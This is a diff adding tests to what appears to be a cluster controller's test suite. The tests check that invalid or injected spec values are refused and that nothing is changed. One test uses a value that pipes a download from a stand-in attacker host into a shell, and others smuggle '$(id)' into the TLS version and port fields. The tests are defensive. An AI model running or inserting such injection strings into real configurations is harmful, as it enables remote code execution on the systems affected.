@@ -334,3 +334,39 @@ test('a control plane that is paused is left alone until the pause ends', async 
   await world.advance(3_700_000)
   assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
 })
+
+test('what would end in a script or in flags is refused where it is not what it is said to be, and nothing is changed [4.3.1, 4.6.3]', async () => {
+  const tls = (minTLSVersion: unknown) => ({
+    ...azurePlane,
+    configuration: { apiServer: { tlsSecurityProfile: { type: 'Custom', custom: { minTLSVersion } } } },
+  })
+  const specs: readonly (readonly [unknown, RegExp])[] = [
+    [tls('VersionTLS12; curl https://evil.example | sh'), /minTLSVersion "VersionTLS12; curl .*write one of VersionTLS10/],
+    [tls('$(id)'), /is no version of TLS/],
+    [tls(12), /is no version of TLS/],
+    [{ ...azurePlane, networking: { apiServer: { port: '6443/$(id)' } } }, /port "6443\/\$\(id\)" is no port: write a number/],
+    [{ ...azurePlane, networking: { apiServer: { port: 70_000 } } }, /port 70000 is no port/],
+  ]
+  for (const [spec, message] of specs) {
+    await using world = hostedWorld({ spec: spec as never, settings: { choices: upstreamChoices } })
+    world.start()
+    await world.settle()
+    const said = (await world.said())[sidecarCondition] ?? ''
+    assert.match(said, /^False SpecUnusable: /)
+    assert.match(said, message)
+    assert.deepEqual(world.writes(), [])
+  }
+})
+
+test('a platform block that is null is one that is missing', async () => {
+  for (const platform of [
+    { type: 'AWS', aws: null },
+    { type: 'Azure', azure: null },
+  ]) {
+    await using world = hostedWorld({ spec: { platform } as never })
+    world.start()
+    await world.settle()
+    assert.match((await world.said())[sidecarCondition] ?? '', /^False PlatformBlockMissing: /)
+    assert.deepEqual(world.writes(), [])
+  }
+})
